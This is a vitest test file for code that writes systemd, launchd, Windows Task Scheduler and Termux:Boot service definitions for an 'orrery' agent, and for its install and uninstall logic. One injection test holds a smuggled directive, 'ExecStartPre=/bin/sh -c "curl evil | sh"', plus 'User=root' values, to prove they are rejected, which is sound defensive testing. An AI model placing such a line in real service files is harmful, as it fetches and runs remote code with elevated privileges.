// Service definitions as text (systemd, launchd, Task Scheduler, Termux:Boot),
// where install puts them, and install/uninstall/status with a platform tool
// that is not usable here (files written, exact next steps printed).
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parseAgentConfigText } from '../src/agent-config.js';
import {
  agentArgv,
  cmdQuote,
  planService,
  renderLaunchdPlist,
  renderSystemdUnit,
  renderTermuxBoot,
  renderWindowsTaskXml,
  renderWindowsWrapper,
  type ServiceSpec,
  shellQuote,
  systemdQuote,
} from '../src/service.js';
import { installService, parseManagerOutput, serviceStatus, uninstallService } from '../src/service-manager.js';
import { tempDir } from './helpers.js';

const spec: ServiceSpec = {
  configPath: '/etc/orrery/agent.yaml',
  name: 'lab-box',
  dataDir: '/var/lib/orrery agent',
  command: ['/usr/bin/node', '/opt/orrery/bin/orrery-agent.js'],
  nodeFlags: ['--max-semi-space-size=1'],
};
const host = { home: '/home/me', env: {}, uid: 501 };

describe('service definitions', () => {
  it('start the agent with its node flags and the config file', () => {
    expect(agentArgv(spec)).toEqual([
      '/usr/bin/node',
      '--max-semi-space-size=1',
      '/opt/orrery/bin/orrery-agent.js',
      '--config',
      '/etc/orrery/agent.yaml',
    ]);
  });

  it('systemd user unit: restarts on failure but not after exit 2, drains on stop', () => {
    const unit = renderSystemdUnit(spec);
    expect(unit).toContain(
      'ExecStart=/usr/bin/node --max-semi-space-size=1 /opt/orrery/bin/orrery-agent.js --config /etc/orrery/agent.yaml\n',
    );
    expect(unit).toContain('Restart=on-failure\nRestartSec=5\nRestartPreventExitStatus=2\n');
    expect(unit).toContain('KillMode=mixed');
    expect(unit).toContain('TimeoutStopSec=300');
    expect(unit).toContain('StartLimitBurst=10');
    expect(unit).toContain('WantedBy=default.target');
    expect(unit).not.toContain('User=');
    const plan = planService(spec, 'linux', { ...host, env: { XDG_CONFIG_HOME: '/home/me/cfg' } });
    expect(plan.file.path).toBe('/home/me/cfg/systemd/user/orrery-agent.service');
    expect(plan.enable).toEqual([
      ['systemctl', '--user', 'daemon-reload'],
      ['systemctl', '--user', 'enable', '--now', 'orrery-agent'],
    ]);
    expect(plan.disable).toEqual([['systemctl', '--user', 'disable', '--now', 'orrery-agent']]);
    expect(plan.notes.join()).toContain('enable-linger');
  });

  it('refuses control characters and odd account names (no directive injection); % is literal in systemd', () => {
    const inject = { ...spec, name: 'lab\nExecStartPre=/bin/sh -c "curl evil | sh"' };
    for (const platform of ['linux', 'darwin', 'windows', 'android'] as const) {
      expect(() => planService(inject, platform, host)).toThrow(
        expect.objectContaining({
          code: 'AGENT_CONFIG_INVALID',
          message: expect.stringContaining('name "lab\\nExecStartPre'),
        }),
      );
    }
    expect(() => planService({ ...spec, dataDir: '/var/lib/x\rUser=root' }, 'linux', host)).toThrow(
      /dataDir .* control character/,
    );
    expect(() => planService({ ...spec, scope: 'system', user: 'orrery\nUser=root' }, 'linux', host)).toThrow(
      /control character/,
    );
    expect(() => planService({ ...spec, scope: 'system', user: 'a b%h' }, 'linux', host)).toThrow(
      /not an account name/,
    );
    const unit = planService({ ...spec, name: '100% lab %h' }, 'linux', host).file.text;
    expect(unit).toContain('Description=Orrery device agent (100%% lab %%h)\n');
  });

  it('systemd system unit: its account and a state directory it owns', () => {
    const unit = renderSystemdUnit({ ...spec, scope: 'system', user: 'orrery', dataDir: '/var/lib/orrery-agent' });
    expect(unit).toContain('User=orrery\nStateDirectory=orrery-agent\nStateDirectoryMode=0700\n');
    expect(unit).toContain('WantedBy=multi-user.target');
    const plan = planService({ ...spec, scope: 'system' }, 'linux', host);
    expect(plan.file.path).toBe('/etc/systemd/system/orrery-agent.service');
    expect(plan.enable[1]).toEqual(['systemctl', 'enable', '--now', 'orrery-agent']);
  });

  it('escapes what systemd, sh, cmd and XML would interpret', () => {
    expect(systemdQuote('50%')).toBe('50%%');
    expect(systemdQuote('a $HOME "b"')).toBe('"a $$HOME \\"b\\""');
    expect(shellQuote("it's")).toBe("'it'\\''s'");
    expect(shellQuote('/plain/path')).toBe('/plain/path');
    expect(cmdQuote('C:\\Program Files\\nodejs\\node.exe')).toBe('"C:\\Program Files\\nodejs\\node.exe"');
    expect(cmdQuote('100%')).toBe('"100%%"');
    expect(renderLaunchdPlist({ ...spec, configPath: '/a&b/agent.yaml' })).toContain(
      '<string>/a&amp;b/agent.yaml</string>',
    );
  });

  it('launchd plist: keeps the agent alive after a failure, logs in the data dir', () => {
    const plist = renderLaunchdPlist(spec);
    expect(plist).toContain('<key>Label</key>\n  <string>dev.orrery.agent</string>');
    expect(plist).toContain('    <string>--config</string>\n    <string>/etc/orrery/agent.yaml</string>\n');
    expect(plist).toContain('<key>KeepAlive</key>\n  <dict>\n    <key>SuccessfulExit</key>\n    <false/>');
    expect(plist).toContain('<string>/var/lib/orrery agent/agent.log</string>');
    expect(plist).not.toContain('UserName');
    expect(renderLaunchdPlist({ ...spec, scope: 'system', user: 'orrery' })).toContain(
      '<key>UserName</key>\n  <string>orrery</string>',
    );
    const plan = planService(spec, 'darwin', host);
    expect(plan.file.path).toBe('/home/me/Library/LaunchAgents/dev.orrery.agent.plist');
    expect(plan.enable).toEqual([['launchctl', 'bootstrap', 'gui/501', plan.file.path]]);
    expect(plan.status).toEqual([['launchctl', 'print', 'gui/501/dev.orrery.agent']]);
    expect(planService({ ...spec, scope: 'system' }, 'darwin', host).disable).toEqual([
      ['launchctl', 'bootout', 'system/dev.orrery.agent'],
    ]);
  });

  it('Windows: a scheduled task at logon (or boot) running a restart wrapper', () => {
    const win: ServiceSpec = {
      ...spec,
      configPath: 'C:\\Users\\me\\AppData\\Roaming\\orrery\\agent.yaml',
      dataDir: 'C:\\Users\\me\\AppData\\Local\\orrery-agent',
      command: ['C:\\Program Files\\nodejs\\node.exe', 'C:\\orrery\\orrery-agent.mjs'],
    };
    const wrapper = renderWindowsWrapper(win);
    expect(wrapper).toContain(
      '"C:\\Program Files\\nodejs\\node.exe" --max-semi-space-size=1 C:\\orrery\\orrery-agent.mjs --config C:\\Users\\me\\AppData\\Roaming\\orrery\\agent.yaml >> C:\\Users\\me\\AppData\\Local\\orrery-agent\\agent.log 2>&1\r\n',
    );
    expect(wrapper).toContain('if "%rc%"=="0" exit /b 0\r\nif "%rc%"=="2" exit /b 2\r\n');
    expect(wrapper).toContain('goto loop');
    expect(wrapper).toContain('ping -n 6 127.0.0.1 >nul\r\n'); // a console-less sleep: `timeout /t` would fail and spin
    expect(wrapper).not.toMatch(/^timeout /m);
    const plan = planService(win, 'windows', host);
    expect(plan.files.map((f) => f.path)).toEqual([
      'C:\\Users\\me\\AppData\\Roaming\\orrery\\orrery-agent-task.xml',
      'C:\\Users\\me\\AppData\\Roaming\\orrery\\orrery-agent.cmd',
    ]);
    expect(plan.file.encoding).toBe('utf16le');
    expect(plan.file.text).toContain('<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2"');
    const xml = plan.file.text;
    expect(xml).toContain('<LogonTrigger>');
    expect(xml).toContain('<ExecutionTimeLimit>PT0S</ExecutionTimeLimit>');
    expect(xml).toContain('<DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>');
    expect(xml).toContain('<Arguments>/d /c C:\\Users\\me\\AppData\\Roaming\\orrery\\orrery-agent.cmd</Arguments>');
    expect(plan.enable).toEqual([
      ['schtasks', '/Create', '/TN', 'Orrery Agent', '/XML', plan.file.path, '/F'],
      ['schtasks', '/Run', '/TN', 'Orrery Agent'],
    ]);
    expect(plan.disable[1]).toEqual(['schtasks', '/Delete', '/TN', 'Orrery Agent', '/F']);
    // System-wide under ProgramData: both folders get an explicit ACL before the task is registered.
    const sysPlan = planService(
      {
        ...win,
        scope: 'system',
        configPath: 'C:\\ProgramData\\orrery\\agent.yaml',
        dataDir: 'C:\\ProgramData\\orrery\\data',
      },
      'windows',
      host,
    );
    expect(sysPlan.enable.slice(0, 2)).toEqual(
      ['C:\\ProgramData\\orrery', 'C:\\ProgramData\\orrery\\data'].map((d) => [
        'icacls',
        d,
        '/inheritance:r',
        '/grant:r',
        '*S-1-5-18:(OI)(CI)F',
        '*S-1-5-32-544:(OI)(CI)F',
        '/T',
      ]),
    );
    expect(sysPlan.enable[2]![0]).toBe('schtasks');
    const sys = renderWindowsTaskXml({ ...win, scope: 'system' }, 'C:\\ProgramData\\orrery\\orrery-agent.cmd');
    expect(sys).toContain('<BootTrigger>');
    expect(sys).toContain('<UserId>S-1-5-18</UserId>');
  });

  it('Termux:Boot: wake lock, backgrounded supervisor, no restart after 0 or 2', () => {
    const script = renderTermuxBoot(spec);
    expect(script.startsWith('#!/data/data/com.termux/files/usr/bin/sh\n')).toBe(true);
    expect(script).toContain('command -v termux-wake-lock >/dev/null 2>&1 && termux-wake-lock');
    expect(script).toContain('nohup sh "$0" --supervise >> \'/var/lib/orrery agent/agent.log\' 2>&1 &');
    expect(script).toContain(
      '  /usr/bin/node --max-semi-space-size=1 /opt/orrery/bin/orrery-agent.js --config /etc/orrery/agent.yaml &\n',
    );
    expect(script).toContain('if [ "$rc" -eq 0 ] || [ "$rc" -eq 2 ]; then');
    expect(script).toContain('trap stop TERM INT HUP');
    const plan = planService(spec, 'android', { home: '/data/data/com.termux/files/home', env: {} });
    expect(plan.file.path).toBe('/data/data/com.termux/files/home/.termux/boot/orrery-agent');
    expect(plan.file.mode).toBe(0o700);
    expect(plan.enable).toEqual([['sh', plan.file.path]]);
  });

  it('parses what each platform tool says about the service', () => {
    expect(
      parseManagerOutput(
        'linux',
        'LoadState=loaded\nActiveState=active\nSubState=running\nMainPID=4242\nExecMainStatus=0\nExecMainCode=0\nNRestarts=3\n',
      ),
    ).toEqual({ available: true, running: true, pid: 4242, lastExit: 0, restarts: 3, state: 'loaded/active/running' });
    expect(
      parseManagerOutput(
        'darwin',
        'gui/501/dev.orrery.agent = {\n\tstate = running\n\tpid = 77\n\truns = 2\n\tlast exit code = 1\n}',
      ),
    ).toEqual({
      available: true,
      running: true,
      pid: 77,
      lastExit: 1,
      restarts: 1,
      state: 'running',
    });
    expect(
      parseManagerOutput('windows', 'TaskName:      \\Orrery Agent\r\nStatus:        Ready\r\nLast Result:   2\r\n'),
    ).toEqual({
      available: true,
      running: false,
      lastExit: 2,
      state: 'Ready',
    });
  });
});

describe('systemd itself checks the generated units', () => {
  // systemd cannot run as PID 1 here, but `systemd-analyze verify` loads a unit
  // file with systemd's own parser and reports unknown keys, bad values and
  // missing executables.
  const analyze = spawnSync('systemd-analyze', ['--version'], { encoding: 'utf8' });
  const available = analyze.status === 0;
  if (!available) console.warn('systemd-analyze is not installed here: the units are only checked as text');
  it.skipIf(!available)('accepts the user and the system unit without a warning, and flags a broken one', () => {
    const tmp = tempDir();
    try {
      const verify = (text: string): string => {
        const file = path.join(tmp.dir, 'orrery-agent.service');
        writeFileSync(file, text);
        const r = spawnSync('systemd-analyze', ['verify', file], { encoding: 'utf8' });
        return `${r.stdout}${r.stderr}`.trim();
      };
      const real: ServiceSpec = {
        configPath: path.join(tmp.dir, 'agent.yaml'),
        dataDir: path.join(tmp.dir, 'data'),
        name: 'lab "box"',
      };
      expect(verify(renderSystemdUnit(real))).toBe('');
      expect(
        verify(renderSystemdUnit({ ...real, scope: 'system', user: 'root', dataDir: '/var/lib/orrery-agent' })),
      ).toBe('');
      expect(verify(renderSystemdUnit(real).replace('Restart=on-failure', 'Restart=sometimes'))).toMatch(
        /restart specifier/,
      );
      expect(verify(renderSystemdUnit({ ...real, command: ['/nonexistent/node', '/x.js'] }))).toMatch(
        /nonexistent\/node/,
      );
    } finally {
      tmp.cleanup();
    }
  });
});

describe('install / status / uninstall where the platform tool is not usable', () => {
  let tmp: ReturnType<typeof tempDir>;
  let out: string;
  let ran: string[][];
  beforeEach(() => {
    tmp = tempDir();
    out = '';
    ran = [];
  });
  afterEach(() => tmp.cleanup());
  const ctx = (dryRun = false) => ({
    platform: 'linux' as const,
    scope: 'user' as const,
    host: { home: tmp.dir, env: {} },
    dryRun,
    out: (t: string) => {
      out += t;
    },
    toolAvailable: () => false,
    run: async (argv: string[]) => {
      ran.push(argv);
      return { code: 0, stdout: '', stderr: '' };
    },
  });

  it('--dry-run writes nothing and shows every file and command', async () => {
    expect(await installService(ctx(true), { config: { server: 'ws://o:7070/v1/aip', slots: 2 }, token: 'tok' })).toBe(
      0,
    );
    expect(existsSync(path.join(tmp.dir, '.config'))).toBe(false);
    expect(out).toContain(`# would write ${tmp.dir}/.config/orrery/agent.yaml (mode 0600)\n`);
    expect(out).toContain('server: ws://o:7070/v1/aip\nslots: 2\n');
    expect(out).toContain(`# would write ${tmp.dir}/.config/systemd/user/orrery-agent.service (mode 0644)\n[Unit]`);
    expect(out).toContain(`# would write the enrollment token to ${tmp.dir}/.local/state/orrery-agent/enroll-token`);
    expect(out).toContain('# would run: systemctl --user enable --now orrery-agent\n');
    expect(ran).toEqual([]);
  });

  it('writes config, token and unit, prints the next steps, keeps existing config keys, and uninstalls', async () => {
    const c = ctx();
    expect(await installService(c, { config: { server: 'ws://o:7070/v1/aip', labels: ['a'] }, token: 'tok' })).toBe(0);
    const cfg = path.join(tmp.dir, '.config', 'orrery', 'agent.yaml');
    const unit = path.join(tmp.dir, '.config', 'systemd', 'user', 'orrery-agent.service');
    const dataDir = path.join(tmp.dir, '.local', 'state', 'orrery-agent');
    expect(await parseAgentConfigText(readFileSync(cfg, 'utf8'), cfg)).toEqual({
      server: 'ws://o:7070/v1/aip',
      labels: ['a'],
      dataDir,
    });
    expect(statSync(cfg).mode & 0o777).toBe(0o600);
    expect(readFileSync(path.join(dataDir, 'enroll-token'), 'utf8').trim()).toBe('tok');
    expect(readFileSync(unit, 'utf8')).toContain(`--config ${cfg}`);
    expect(out).toContain(
      'systemctl is not usable here; run these yourself:\n  systemctl --user daemon-reload\n  systemctl --user enable --now orrery-agent\n',
    );
    expect(ran).toEqual([]);

    // A second install changes what the flags say and keeps the rest.
    expect(await installService(c, { config: { server: 'wss://o2:7443/v1/aip', slots: 3 } })).toBe(0);
    expect(await parseAgentConfigText(readFileSync(cfg, 'utf8'), cfg)).toEqual({
      server: 'wss://o2:7443/v1/aip',
      labels: ['a'],
      slots: 3,
      dataDir,
    });

    const s = await serviceStatus(c, {});
    expect(s).toMatchObject({
      installed: true,
      running: false,
      definition: unit,
      configPath: cfg,
      dataDir,
      manager: { available: false },
    });

    expect(await uninstallService(c, {})).toBe(0);
    expect(existsSync(unit)).toBe(false);
    expect(existsSync(cfg)).toBe(true);
    expect(out).toContain('--purge removes them');
    expect(await uninstallService(c, { purge: true })).toBe(0);
    expect(existsSync(cfg)).toBe(false);
    expect(existsSync(dataDir)).toBe(false);
  });

  it('says what to do when a file cannot be written (no root for --system)', async () => {
    // /sys refuses new files even to root (EPERM, or EROFS where mounted read-only), like /etc does to a normal user (EACCES).
    await expect(
      installService(ctx(), { config: { server: 'ws://o:7070/v1/aip' }, configPath: '/sys/orrery-test/agent.yaml' }),
    ).rejects.toMatchObject({ code: 'AGENT_SERVICE_PERMISSION', message: expect.stringContaining('run it with sudo') });
  });

  it('refuses to install without a server', async () => {
    expect(await installService(ctx(), { config: {} })).toBe(1);
    expect(out).toContain('error AGENT_CONFIG_INVALID: no server');
  });
});
